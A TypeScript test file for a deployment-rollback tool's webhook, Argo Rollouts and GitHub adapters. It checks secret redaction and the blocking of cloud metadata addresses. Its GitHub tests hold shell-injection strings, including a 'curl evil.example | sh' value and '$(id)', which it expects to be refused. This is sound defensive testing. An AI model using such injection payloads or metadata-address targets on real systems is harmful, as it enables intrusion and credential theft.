import { createHmac } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { Secret } from '../../src/core/secret.ts';
import { ArgoRolloutsAdapter } from '../../src/rollback/argo-rollouts-adapter.ts';
import { GithubAdapter, type GithubOptions } from '../../src/rollback/github-adapter.ts';
import { answerOf, isRefusedAddress } from '../../src/rollback/guarded-request.ts';
import type { RollbackOrder } from '../../src/rollback/target-adapter.ts';
import { WebhookAdapter, type WebhookOptions } from '../../src/rollback/webhook-adapter.ts';
import { HandClock } from '../stream/embedded-place.ts';
import { FakeServer, jsonReply, type Heard } from './fake-server.ts';
import { noon } from './site.ts';

let server: FakeServer;
let url: string;
beforeEach(async () => {
  server = new FakeServer();
  url = await server.start();
});
afterEach(() => server.stop());

const order: RollbackOrder = {
  id: 'aaff188117585b6e-5',
  target: 'refunds',
  agent: 'refund',
  environment: 'production',
  from: 'v2',
  to: 'v1',
  policy: 'refund-agent',
  revision: 'abc',
  reason: 'run_success is worse',
  requestedBy: 'judge',
  approvedBy: '',
};
const usual = { timeoutMs: 2000, ca: undefined };
const secret = new Secret('a secret of the webhook');

const webhook = (changes: Partial<WebhookOptions> = {}) =>
  new WebhookAdapter(
    {
      ...usual,
      url: `${url}/rollback`,
      currentUrl: `${url}/release`,
      secret,
      token: new Secret('the-token'),
      isRepeatable: false,
      ...changes,
    },
    new HandClock(noon),
  );

const github = (changes: Partial<GithubOptions> = {}) =>
  new GithubAdapter({
    ...usual,
    server: url,
    owner: 'acme',
    repository: 'refunds',
    dispatch: { workflow: 'rollback.yaml', ref: 'main' },
    releaseVariable: 'RELEASE',
    token: new Secret('the-token'),
    isRepeatable: false,
    ...changes,
  });

const failure = (status: number, message: string) => ({
  status,
  value: { kind: 'Status', status: 'Failure', message, code: status },
});

const port = (): string => new URL(url).port;

describe('a webhook', () => {
  test('is sent the order once, signed, with its idempotency key', async () => {
    server.reply = jsonReply(202, { ok: true });
    expect(await webhook().rollBack(order)).toMatchObject({ kind: 'done' });
    const { method, path, headers, body } = server.heard[0]!;
    expect([method, path, headers['idempotency-key']]).toEqual(['POST', '/rollback', order.id]);
    expect(headers.authorization).toBe('Bearer the-token');
    const [, seconds = '', signature] =
      /^t=(\d+),v1=(\w+)$/.exec(String(headers['x-plimsoll-signature'])) ?? [];
    expect(Number(seconds)).toBe(noon / 1000);
    expect(signature).toBe(createHmac('sha256', secret.reveal()).update(`${seconds}.${body}`).digest('hex'));
    expect(JSON.parse(body)).toMatchObject({ action: 'rollback', from_release: 'v2', to_release: 'v1' });
  });

  test.each([
    { status: 409, kind: 'moved' },
    { status: 403, kind: 'refused' },
    { status: 404, kind: 'refused' },
    { status: 422, kind: 'refused' },
    { status: 429, kind: 'unreached' },
    { status: 500, kind: 'uncertain' },
    { status: 503, kind: 'uncertain' },
  ])('that answers $status is $kind, with what it says and none of its secrets', async ({ status, kind }) => {
    server.reply = jsonReply(status, { message: 'approval\nrequired' });
    const outcome = await webhook().rollBack(order);
    expect(outcome.kind).toBe(kind);
    expect(outcome.reason).toContain(`it answered ${status}: approval required`);
  });

  const echoes: readonly { readonly how: string; readonly reply: (heard: Heard) => string }[] = [
    { how: 'all of it', reply: (heard) => JSON.stringify(heard) },
    { how: 'all of it as text', reply: (heard) => JSON.stringify(heard, null, 1).replaceAll('"', '') },
    { how: 'its token in base64', reply: () => Buffer.from('the/token+of=all').toString('base64') },
    {
      how: 'its headers as the message',
      reply: ({ headers }) => JSON.stringify({ message: `400 for ${JSON.stringify(headers)}` }),
    },
    {
      how: 'only the token and the signature',
      reply: ({ headers }) => {
        const [, token] = String(headers.authorization).split(' ');
        const [, signature] = String(headers['x-plimsoll-signature']).split('v1=');
        return JSON.stringify({ message: `${'.'.repeat(270)} ${token} and ${signature} are no good` });
      },
    },
    {
      how: 'its token, encoded',
      reply: ({ headers }) => JSON.stringify({ message: encodeURIComponent(String(headers.authorization)) }),
    },
    { how: 'its path', reply: ({ path }) => JSON.stringify({ message: `Cannot GET or POST ${path}` }) },
  ];
  test.each(echoes)('that repeats $how is not quoted with what is secret', async ({ reply }) => {
    const bearing = webhook({
      token: new Secret('the/token+of=all'),
      url: `${url}/hooks/T0/hunter2?key=swordfish`,
      currentUrl: `${url}/hooks/T0/hunter2?key=swordfish`,
    });
    for (const status of [200, 400, 409, 429, 500]) {
      server.reply = (heard, response) => void response.writeHead(status).end(reply(heard));
      const said = JSON.stringify([await bearing.rollBack(order), await bearing.current()]);
      const signature = String(server.heard.at(-2)?.headers['x-plimsoll-signature']).split('v1=')[1]!;
      for (const hidden of ['the/token', 'the%2Ftoken', signature.slice(0, 8), 'hunter2', 'swordfish'])
        expect(said).not.toContain(hidden);
      expect(said).not.toContain(Buffer.from('the/token+of=all').toString('base64'));
      expect(said).toContain(`it answered ${status}`);
    }
  });

  test.each([301, 302, 307, 308])('that answers %i is not followed', async (status) => {
    server.reply = (heard, response) => {
      response.writeHead(heard.path === '/elsewhere' ? 200 : status, { location: `${url}/elsewhere` }).end();
    };
    expect(await webhook().rollBack(order)).toMatchObject({
      kind: 'refused',
      reason: expect.stringContaining('redirects are not followed'),
    });
    expect(server.heard).toHaveLength(1);
  });

  test('that did it and does not answer in time may have done it', async () => {
    server.reply = () => undefined;
    expect(await webhook({ timeoutMs: 100 }).rollBack(order)).toEqual({
      kind: 'uncertain',
      reason: 'it did not answer within 0.1 s',
    });
    expect(server.heard).toHaveLength(1);
  });

  test('that hangs up after it heard the order may have done it', async () => {
    server.reply = (_, response) => response.destroy();
    expect(await webhook().rollBack(order)).toMatchObject({ kind: 'uncertain' });
  });

  test('that begins to answer and goes silent may have done it', async () => {
    server.reply = (_, response) => void response.writeHead(200).write('{');
    expect(await webhook({ timeoutMs: 200 }).rollBack(order)).toMatchObject({ kind: 'uncertain' });
  });

  test('that switches protocols, as nobody asked it to, may have done it', async () => {
    const asked = { timeoutMs: 10_000 };
    server.reply = (_, { socket }) =>
      void socket?.write('HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n');
    expect(await webhook(asked).rollBack(order)).toMatchObject({ kind: 'uncertain' });
    expect(await webhook(asked).current()).toMatchObject({ kind: 'unreachable' });
  });

  test.each(['Processing', 'Early Hints'])(
    'that says %s and nothing more may have done it',
    async (interim) => {
      server.reply = (_, { socket }) =>
        void socket?.write(`HTTP/1.1 10${interim === 'Processing' ? 2 : 3} ${interim}\r\n\r\n`);
      expect(await webhook({ timeoutMs: 200 }).rollBack(order)).toMatchObject({ kind: 'uncertain' });
    },
  );

  test.each(['10€', 'a\nb'])('whose token no request can bear has surely not done it: %j', async (token) => {
    const adapter = webhook({ token: new Secret(token) });
    expect(await adapter.rollBack(order)).toEqual({
      kind: 'unreached',
      reason: expect.stringContaining('Invalid character in header content ["authorization"]'),
    });
    expect(await adapter.current()).toMatchObject({ kind: 'unreachable' });
    expect(server.heard).toEqual([]);
  });

  test('to which nobody listens has surely not done it', async () => {
    server.stop();
    expect(await webhook().rollBack(order)).toMatchObject({ kind: 'unreached' });
    const unknown = webhook({ url: 'http://no-such-host.invalid/' });
    expect(await unknown.rollBack(order)).toMatchObject({ kind: 'unreached' });
  });

  test('says what runs, or that nobody can say', async () => {
    server.reply = jsonReply(200, { release: 'v2', more: 1 });
    expect(await webhook().current()).toEqual({ kind: 'known', release: 'v2' });
    expect(server.heard[0]).toMatchObject({ method: 'GET', path: '/release' });
    expect(await webhook({ currentUrl: undefined }).current()).toEqual({ kind: 'unknown' });
    for (const [status, said] of [
      [200, { version: 'v2' }],
      [200, 'v2'],
      [500, {}],
    ] as const) {
      server.reply = jsonReply(status, said);
      expect(await webhook().current()).toMatchObject({ kind: 'unreachable' });
    }
  });

  test('that answers without end is read no further than a bound', async () => {
    server.reply = (_, response) => {
      const chunk = 'x'.repeat(65_536);
      const more = (): void => {
        while (!response.destroyed && response.write(chunk));
        if (!response.destroyed) response.once('drain', more);
      };
      response.writeHead(200);
      more();
    };
    expect(await webhook({ timeoutMs: 20_000 }).rollBack(order)).toMatchObject({ kind: 'done' });
  });
});

describe('addresses where clouds keep credentials', () => {
  test.each([
    '169.254.169.254',
    '169.254.170.2',
    '::ffff:169.254.169.254',
    '::ffff:a9fe:a9fe',
    'fe80::1',
    'fd00:ec2::254',
    '64:ff9b::a9fe:a9fe',
    '64:ff9b::a83f:8110',
    '64:ff9b:1::a9fe:a9fe',
    '2002:a9fe:a9fe::',
    '::169.254.169.254',
    '100.100.100.200',
    '168.63.129.16',
    '0.0.0.0',
    '::',
    '224.0.0.1',
  ])('%s is none of a target', (address) => {
    expect(isRefusedAddress(address)).toBe(true);
  });

  test.each([
    '127.0.0.1',
    '::1',
    '10.0.0.1',
    '192.168.1.1',
    '172.20.0.1',
    'fd12::1',
    '140.82.112.6',
    '64:ff9b::8c52:7006',
    '2606:50c0:8000::154',
  ])('%s may be one', (address) => {
    expect(isRefusedAddress(address)).toBe(false);
  });

  test.each([
    'http://169.254.169.254/latest/meta-data/',
    'http://[fe80::1]/',
    'http://[::ffff:169.254.169.254]/',
    'http://2852039166/', // the same as one number
    'http://0xa9fea9fe/',
  ])('a request to %s is not sent', async (metadata) => {
    const request = { method: 'GET' as const, headers: {}, body: '', ...usual };
    expect(await answerOf({ ...request, url: metadata })).toMatchObject({
      kind: 'unreached',
      reason: expect.stringContaining('link-local or metadata address'),
    });
  });
});

describe('a name', () => {
  const request = { method: 'GET' as const, headers: {}, body: '', ...usual };
  test('is connected to at the address that was looked at', async () => {
    const answer = await answerOf({ ...request, url: `http://flags.example:${port()}/` }, (_, __, found) =>
      found(null, [{ address: '127.0.0.1', family: 4 }]),
    );
    expect(answer).toMatchObject({ kind: 'answered' });
  });

  test('of which any address is a metadata address is not connected to', async () => {
    const answer = await answerOf({ ...request, url: `http://flags.example:${port()}/` }, (_, __, found) =>
      found(null, [
        { address: '127.0.0.1', family: 4 },
        { address: '169.254.169.254', family: 4 },
      ]),
    );
    expect(answer).toEqual({
      kind: 'unreached',
      reason: 'flags.example is 169.254.169.254, a link-local or metadata address',
    });
    expect(server.heard).toEqual([]);
  });
});

describe('a rollout of Argo', () => {
  /** Kubernetes with one rollout: a canary of v2 on the stable v1. */
  class Kubernetes {
    rollout = {
      metadata: { name: 'refunds', resourceVersion: '41' },
      spec: { template: { metadata: { labels: { app: 'refunds', version: 'v2' } } } },
      status: { abort: false, currentPodHash: 'bbb', stableRS: 'aaa', phase: 'Progressing' } as Record<
        string,
        unknown
      >,
    };
    hasStatus = true;
    conflicts = 0;
    forbidden = false;

    answer(heard: FakeServer['heard'][0]): { readonly status: number; readonly value: unknown } {
      const place = '/apis/argoproj.io/v1alpha1/namespaces/agents/rollouts/refunds';
      if (heard.headers.authorization !== 'Bearer the-token') return failure(401, 'Unauthorized');
      if (this.forbidden) return failure(403, 'rollouts.argoproj.io "refunds" is forbidden');
      if (heard.path.startsWith('/apis/apps/v1/namespaces/agents/replicasets?')) {
        const selector = new URL(heard.path, url).searchParams.get('labelSelector');
        const labels = { version: 'v1' };
        const items =
          selector === 'rollouts-pod-template-hash=aaa'
            ? [{ spec: { template: { metadata: { labels } } } }]
            : [];
        return { status: 200, value: { items } };
      }
      if (heard.path === place && heard.method === 'GET') return { status: 200, value: this.rollout };
      const isStatus = heard.path === `${place}/status`;
      if (heard.method !== 'PATCH' || !(isStatus || heard.path === place)) return failure(404, 'not found');
      if (isStatus && !this.hasStatus)
        return failure(404, 'the server could not find the requested resource');
      if (heard.headers['content-type'] !== 'application/merge-patch+json') return failure(415, 'media type');
      const patch = JSON.parse(heard.body);
      if (this.conflicts-- > 0) this.rollout.metadata.resourceVersion += '1';
      if (patch.metadata.resourceVersion !== this.rollout.metadata.resourceVersion)
        return failure(409, 'the object has been modified');
      Object.assign(this.rollout.status, patch.status);
      return { status: 200, value: this.rollout };
    }
  }
  let kubernetes: Kubernetes;
  let adapter: ArgoRolloutsAdapter;
  beforeEach(() => {
    kubernetes = new Kubernetes();
    server.reply = (heard, response) => {
      const { status, value } = kubernetes.answer(heard);
      jsonReply(status, value)(heard, response);
    };
    adapter = new ArgoRolloutsAdapter({
      ...usual,
      server: url,
      namespace: 'agents',
      rollout: 'refunds',
      releaseLabel: 'version',
      token: async () => Promise.resolve(new Secret('the-token')),
    });
  });

  test('is aborted, and runs the stable release then', async () => {
    expect(await adapter.current()).toEqual({ kind: 'known', release: 'v2' });
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'done' });
    expect(kubernetes.rollout.status['abort']).toBe(true);
    expect(await adapter.current()).toEqual({ kind: 'known', release: 'v1' });
  });

  test('without a status subresource is aborted itself', async () => {
    kubernetes.hasStatus = false;
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'done' });
    expect(kubernetes.rollout.status['abort']).toBe(true);
  });

  test('that changes meanwhile is looked at again before it is aborted', async () => {
    kubernetes.conflicts = 2;
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'done' });
    kubernetes.conflicts = 9;
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'unreached' });
  });

  test('that got another release since is left alone', async () => {
    kubernetes.rollout.spec.template.metadata.labels.version = 'v3';
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'moved' });
    expect(kubernetes.rollout.status['abort']).toBe(false);
  });

  test('that was promoted whole cannot be aborted', async () => {
    kubernetes.rollout.status['stableRS'] = 'bbb';
    expect(await adapter.rollBack(order)).toMatchObject({ kind: 'refused' });
  });

  test('that would go back to another release than is asked for is left alone', async () => {
    expect(await adapter.rollBack({ ...order, to: 'v0' })).toEqual({
      kind: 'refused',
      reason: 'an abort goes back to v1, and not to v0',
    });
  });

  test('that the token may not touch, or that is not there, is refused', async () => {
    kubernetes.forbidden = true;
    expect(await adapter.rollBack(order)).toMatchObject({
      kind: 'refused',
      reason: expect.stringContaining('is forbidden'),
    });
    expect(await adapter.current()).toMatchObject({ kind: 'unreachable' });
  });

  test('cannot be asked without a token', async () => {
    const tokenless = new ArgoRolloutsAdapter({
      ...usual,
      server: url,
      namespace: 'agents',
      rollout: 'refunds',
      releaseLabel: 'version',
      token: async () => Promise.reject(new Error('ENOENT: no such file')),
    });
    expect(await tokenless.rollBack(order)).toMatchObject({ kind: 'unreached' });
    expect(server.heard).toEqual([]);
  });
});

describe('GitHub', () => {
  const inputs = {
    id: order.id,
    from_release: 'v2',
    to_release: 'v1',
    agent: 'refund',
    environment: 'production',
  };

  test.each([
    { from: 'v2"; curl evil.example | sh; "' },
    { from: 'v2$(id)' },
    { to: 'v1 `id`' },
    { agent: '-rf' },
    { agent: '' },
    { environment: "production'\nid" },
  ])('is sent nothing that a shell could take for more than a name: %j', async (changes) => {
    expect(await github().rollBack({ ...order, ...changes })).toMatchObject({
      kind: 'refused',
      reason: expect.stringContaining('is no name that a workflow may be given'),
    });
    expect(server.heard).toEqual([]);
  });

  test('is sent a workflow_dispatch, with texts as inputs', async () => {
    server.reply = (_, response) => void response.writeHead(204).end();
    expect(await github().rollBack(order)).toMatchObject({ kind: 'done' });
    expect(server.heard[0]).toMatchObject({
      method: 'POST',
      path: '/repos/acme/refunds/actions/workflows/rollback.yaml/dispatches',
      headers: {
        accept: 'application/vnd.github+json',
        authorization: 'Bearer the-token',
        'x-github-api-version': '2022-11-28',
        'user-agent': 'plimsoll',
      },
    });
    expect(JSON.parse(server.heard[0]!.body)).toEqual({ ref: 'main', inputs });
  });

  test('is sent a repository_dispatch', async () => {
    server.reply = (_, response) => void response.writeHead(204).end();
    expect(await github({ dispatch: { eventType: 'rollback' } }).rollBack(order)).toMatchObject({
      kind: 'done',
    });
    expect(server.heard[0]?.path).toBe('/repos/acme/refunds/dispatches');
    expect(JSON.parse(server.heard[0]!.body)).toEqual({ event_type: 'rollback', client_payload: inputs });
  });

  test.each([
    { what: 'Resource not accessible by personal access token', status: 403, headers: {}, kind: 'refused' },
    {
      what: 'API rate limit exceeded',
      status: 403,
      headers: { 'x-ratelimit-remaining': '0' },
      kind: 'unreached',
    },
    {
      what: 'You have exceeded a secondary rate limit',
      status: 403,
      headers: { 'retry-after': '60' },
      kind: 'unreached',
    },
    { what: 'Not Found', status: 404, headers: {}, kind: 'refused' },
    { what: "Workflow does not have 'workflow_dispatch' trigger", status: 422, headers: {}, kind: 'refused' },
    { what: 'Server Error', status: 502, headers: {}, kind: 'uncertain' },
  ])('that says "$what" is $kind', async ({ what, status, headers, kind }) => {
    server.reply = jsonReply(status, { message: what }, headers);
    expect(await github().rollBack(order)).toMatchObject({ kind, reason: expect.stringContaining(what) });
  });

  test('says what runs by a variable of the repository, if it has one', async () => {
    server.reply = jsonReply(200, { name: 'RELEASE', value: 'v2' });
    expect(await github().current()).toEqual({ kind: 'known', release: 'v2' });
    expect(server.heard[0]?.path).toBe('/repos/acme/refunds/actions/variables/RELEASE');
    expect(await github({ releaseVariable: undefined }).current()).toEqual({ kind: 'unknown' });
  });
});
